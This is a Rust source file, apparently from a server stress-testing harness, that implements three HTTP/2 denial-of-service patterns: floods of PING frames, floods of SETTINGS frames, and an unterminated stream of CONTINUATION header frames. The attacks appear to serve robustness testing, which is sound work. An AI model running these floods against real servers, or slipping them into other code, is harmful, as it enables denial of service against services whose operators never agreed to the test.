//! HTTP/2 frames that cost their sender nothing, and want an answer or a place in memory.

use super::attack::{Attack, Then, Turn};
use crate::{
    contender::check_health,
    wire::{
        Protocol,
        frames::{flag, frame, headers, kind, opening},
    },
};

/// Frames in a turn.
const FRAMES: usize = 200;

#[derive(Clone, Copy)]
pub(super) enum ControlFrames {
    Pings,
    Settings,
    /// Headers that go on in frame after frame.
    Continuations,
}

impl Attack for ControlFrames {
    fn about(&self) -> &'static str {
        match self {
            Self::Pings => "send HTTP/2 pings without pause, and read the answers",
            Self::Settings => "send HTTP/2 settings without pause, and read the answers",
            Self::Continuations => "send headers over HTTP/2 that go on in frame after frame",
        }
    }

    fn protocol(&self, _client: u64) -> Protocol {
        Protocol::Http2
    }

    fn speak(&mut self, turn: Turn, out: &mut Vec<u8>) -> Then {
        if turn.number == 0 {
            opening(out);
            if let Self::Continuations = self {
                let mut begun = Vec::new();
                headers(&check_health(), "localhost", 1, &mut begun);
                begun[4] &= !flag::END_HEADERS;
                out.extend(begun);
            }
        }
        for _ in 0..FRAMES {
            match self {
                Self::Pings => frame(kind::PING, 0, 0, b"are you?", out),
                Self::Settings => frame(kind::SETTINGS, 0, 0, &[], out),
                Self::Continuations => frame(kind::CONTINUATION, 0, 1, b"\x00\x03x-a\x02aa", out),
            }
        }
        Then::AT_ONCE
    }
}
